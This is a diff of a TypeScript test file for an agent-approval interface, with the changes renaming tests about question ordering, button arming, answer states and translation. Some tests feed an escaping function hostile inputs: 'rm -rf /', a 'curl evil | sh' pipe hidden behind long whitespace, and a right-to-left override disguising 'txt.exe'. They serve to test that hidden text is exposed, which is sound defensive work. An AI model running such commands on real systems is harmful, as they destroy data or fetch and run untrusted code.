@@ -30,30 +30,30 @@ const asks = asksOf({
 const [soon, , late] = asks as [Ask, Ask, Ask];
 
 describe("order", () => {
-  test("the most urgent first, those of both kinds apart", () => {
+  test("the earliest deadline first; ids of different kinds do not collide", () => {
     expect(asks.map((a) => a.key)).toEqual(["prompt/soon", "approval/late", "prompt/late", "approval/never"]);
   });
 
-  test("what is shown stays, however urgent another one is", () => {
+  test("the shown question stays, however urgent another one is", () => {
     expect(askInFront(asks, "", new Set())).toBe(soon);
     expect(askInFront(asks, "prompt/late", new Set())).toBe(late);
     expect(askInFront(asks, "gone", new Set(["prompt/soon"]))?.key).toBe("approval/late");
     expect(askInFront(asks, "prompt/soon", new Set(asks.map((a) => a.key)))).toBeUndefined();
   });
 
-  test("steps go round", () => {
+  test("the first and the last question are adjacent", () => {
     expect(adjacentAsk(asks, "prompt/soon", -1)?.key).toBe("approval/never");
     expect(adjacentAsk(asks, "approval/never", 1)).toBe(soon);
   });
 
-  test("time left, by the clock of the hub", () => {
+  test("the time left, by the hub's clock", () => {
     expect(timeLeft(soon, 400)).toEqual({ ms: 600, part: 600 / 300_000 });
     expect(timeLeft(soon, 9000)).toEqual({ ms: 0, part: 0 });
     expect(timeLeft(asks[3]!, 0)).toEqual({ ms: Infinity, part: 1 });
   });
 });
 
-test("only presses of a person count that began when the buttons were ready", () => {
+test("only presses of the user that began after arming count", () => {
   expect(isValidPress({ isTrusted: true, detail: 1 }, true, true)).toBe(true);
   expect(isValidPress({ isTrusted: true, detail: 0 }, true, false)).toBe(true);
   expect(isValidPress({ isTrusted: true, detail: 1 }, true, false)).toBe(false);
@@ -68,7 +68,7 @@ describe("answers", () => {
   const outbox = (...items: Sent[]): Pick<Outbox, "items"> => ({ items });
   const witness = (o: Pick<Outbox, "items">): EndingContext => ({ outbox: o, presence: [{ connectionId: "c1", user: "me" }, { connectionId: "c2", user: "mina" }], user: "me", now: 100_000 });
 
-  test("the newest answer tells how it is", () => {
+  test("the state is that of the newest answer", () => {
     expect(answerState(outbox(), ask)).toEqual({ state: "open" });
     expect(answerState(outbox(sent("m1", "sending")), ask)).toEqual({ state: "sending" });
     expect(answerState(outbox(sent("m1", "rejected", 0, "no")), ask)).toEqual({ state: "refused", reason: "no", code: 0, field: "" });
@@ -76,7 +76,7 @@ describe("answers", () => {
     expect(answerState(outbox(sent("m1", "sending")), late)).toEqual({ state: "open" });
   });
 
-  test("a question that is asked once more is open", () => {
+  test("a question that is asked again is open", () => {
     expect(answerState(outbox(sent("m1", "done")), ask)).toEqual({ state: "open" });
   });
 
@@ -89,7 +89,7 @@ describe("answers", () => {
     expect(endingOf(ask, { ...closed, reason: "cancelled" }, witness(outbox()))).toEqual({ how: "withdrawn" });
   });
 
-  test("our own answer is no news, and one that came second is", () => {
+  test("an own answer causes no notice, a second one that lost does", () => {
     expect(endingOf(ask, closed, witness(outbox(sent("m9", "done", 99_000))))).toBeUndefined();
     expect(endingOf(ask, { ...closed, answeredBy: "c2" }, witness(outbox(sent("m1", "done", 99_000))))).toEqual({ how: "lost", user: "mina" });
     expect(endingOf(ask, closed, witness(outbox(sent("m1", "done", 1_000))))).toEqual({ how: "otherTab" });
@@ -99,13 +99,13 @@ describe("answers", () => {
 describe("prompts", () => {
   const p: OpenPrompt = { id: "p", title: "", message: "", options: [{ value: "a", label: "A" }, { value: "b", label: "B" }] };
 
-  test("one or many can be chosen", () => {
+  test("one or several options can be chosen", () => {
     expect(toggleOption(["a"], "b", false)).toEqual(["b"]);
     expect(toggleOption(["a"], "b", true)).toEqual(["a", "b"]);
     expect(toggleOption(["a", "b"], "a", true)).toEqual(["b"]);
   });
 
-  test("an answer is something that the hub takes", () => {
+  test("an answer is complete when the hub accepts it", () => {
     expect(hasAnswer(p, [], "")).toBe(false);
     expect(hasAnswer(p, ["a"], "")).toBe(true);
     expect(hasAnswer(p, ["x"], "")).toBe(false);
@@ -115,7 +115,7 @@ describe("prompts", () => {
   });
 });
 
-test("nothing in a text is unseen or turned round", () => {
+test("no character of a text is invisible or changes its direction", () => {
   expect(escapeInvisible("rm -rf /\n\ttmp 한글 👩‍💻")).toBe("rm -rf /\n\ttmp 한글 👩‍💻");
   expect(escapeInvisible("a\u202Etxt.exe\u200B\r\nb\u0000")).toBe("a[U+202E]txt.exe[U+200B]\nb[U+0000]");
   expect(escapeInvisible("x\u{E0041}")).toBe("x[U+E0041]");
@@ -125,19 +125,19 @@ test("nothing in a text is unseen or turned round", () => {
   expect(escapeInvisible("⚠️ a\uFE0F")).toBe("⚠️ a[U+FE0F]");
 });
 
-test("nothing is pushed out of sight by emptiness", () => {
+test("long gaps do not push text out of view", () => {
   expect(escapeInvisible(`ls /tmp${"\n".repeat(200)}; curl evil | sh`)).toBe("ls /tmp\n[↵ ×199]\n; curl evil | sh");
   expect(escapeInvisible(`ls${" ".repeat(90)}; rm`)).toBe("ls [␣ ×90] ; rm");
   expect(escapeInvisible("a\n\n  b")).toBe("a\n\n  b");
 });
 
-test("a question that says something else is another one", () => {
+test("a question with another content is another version", () => {
   const of = (title: string): string => versionOf(asksOf({ dialogs: new Map([["d", approval("d", 1, { title })]]), prompts: new Map(), requests: new Map() })[0]!);
   expect(of("a")).toBe(of("a"));
   expect(of("a")).not.toBe(of("b"));
 });
 
-test("a question comes from its agent, on its monitor, for its window", () => {
+test("a question has the agent, monitor and window of its origin", () => {
   const desktop = emptyDesktop();
   const ask = asksOf({ dialogs: new Map([["d", approval("d", 1, { agentId: "window-w1" })]]), prompts: new Map(), requests: new Map() })[0]! as Exclude<Ask, PlanAsk>;
   expect(originOf(ask, desktop)).toEqual({ agent: "window-w1", monitor: "monitor-0" });
@@ -146,7 +146,7 @@ test("a question comes from its agent, on its monitor, for its window", () => {
 });
 
 describe("arming", () => {
-  /** A page whose frames are drawn by hand. */
+  /** A page whose frames are drawn by the test. */
   function page(): { clocks: Timers; draw: () => void; timers: number[]; acted: () => void; done: () => number } {
     const frames = new Map<number, () => void>();
     const running = new Map<number, { act: () => void; ms: number }>();
@@ -174,7 +174,7 @@ describe("arming", () => {
     };
   }
 
-  test("the time begins with the frame after the one that shows it", () => {
+  test("the delay starts with the frame after the one that shows the question", () => {
     const p = page();
     afterVisible(p.clocks, p.acted);
     expect(p.timers).toEqual([]);
@@ -185,7 +185,7 @@ describe("arming", () => {
     expect(p.done()).toBe(1);
   });
 
-  test("it can be prevented at any time", () => {
+  test("it can be cancelled at any time", () => {
     for (const frames of [0, 1, 2]) {
       const p = page();
       const cancel = afterVisible(p.clocks, p.acted);
@@ -198,7 +198,7 @@ describe("arming", () => {
   });
 });
 
-test("what is asked most is asked in the words of the page", () => {
+test("the hub's own titles are translated", () => {
   const title = (request: ApprovalRequest): string => titleOf({ request }, texts.ko);
   expect(title(approval("d", 1, { title: "May the agent do this?" }))).toBe(texts.ko.permission);
   expect(title(approval("d", 1, { title: "Add a\u200Bhook?" }))).toBe("Add a[U+200B]hook?");
